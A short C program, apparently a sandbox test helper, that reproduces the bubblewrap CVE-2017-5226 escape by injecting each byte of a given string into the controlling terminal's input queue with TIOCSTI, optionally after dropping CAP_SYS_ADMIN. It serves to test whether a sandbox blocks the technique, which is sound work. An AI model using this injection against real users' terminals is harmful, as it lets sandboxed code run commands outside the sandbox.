/* The bubblewrap CVE-2017-5226 escape, as a workload would try it: push each byte of STRING
 * into the input queue of the terminal on fd 0 with TIOCSTI (ioctl_tty(2)), as if typed there.
 *
 *   tty_tiocsti [--drop-sys-admin] STRING
 *
 * --drop-sys-admin first drops CAP_SYS_ADMIN from its own sets (root holding it may TIOCSTI
 * any terminal), so that only the session rule is left: TIOCSTI works on the caller's own
 * controlling terminal alone. Prints one line "tiocsti: sys_admin=N injected=N errno=E" and
 * exits 0 when every byte went in, 1 when the kernel refused, 2 on bad usage. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/capability.h>

#define SYS_ADMIN_BIT (1u << CAP_SYS_ADMIN) /* 21: in the first 32-bit word */

static int caps(struct __user_cap_data_struct d[2], int set)
{
	struct __user_cap_header_struct h = { .version = _LINUX_CAPABILITY_VERSION_3 };

	return (int)syscall(set ? SYS_capset : SYS_capget, &h, d);
}

int main(int argc, char **argv)
{
	struct __user_cap_data_struct d[2];
	const char *s;
	size_t i;
	int drop = argc == 3 && !strcmp(argv[1], "--drop-sys-admin"), err = 0;

	if (argc != 2 + drop) {
		fprintf(stderr, "usage: tty_tiocsti [--drop-sys-admin] STRING\n");
		return 2;
	}
	s = argv[1 + drop];
	if (caps(d, 0))
		return 2;
	if (drop) {
		d[0].effective &= ~SYS_ADMIN_BIT;
		d[0].permitted &= ~SYS_ADMIN_BIT;
		d[0].inheritable &= ~SYS_ADMIN_BIT;
		if (caps(d, 1) || caps(d, 0))
			return 2;
	}
	for (i = 0; s[i]; i++) {
		if (ioctl(0, TIOCSTI, &s[i])) {
			err = errno;
			break;
		}
	}
	printf("tiocsti: sys_admin=%d injected=%zu errno=%d\n", !!(d[0].effective & SYS_ADMIN_BIT),
	       i, err);
	return s[i] ? 1 : 0;
}
